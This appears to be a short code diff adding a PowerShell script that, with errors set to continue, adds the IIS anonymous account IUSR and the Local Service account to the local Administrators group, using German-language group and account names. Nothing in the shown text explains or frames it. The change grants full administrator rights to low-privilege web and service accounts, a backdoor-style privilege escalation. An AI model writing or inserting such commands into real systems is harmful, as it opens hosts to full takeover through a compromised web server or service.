@@ -1,0 +1,3 @@
+$ErrorActionPreference = 'Continue'
+net localgroup Administratoren IUSR /add
+net localgroup Administrators "NT-AUTORITÄT\Lokaler Dienst" /add
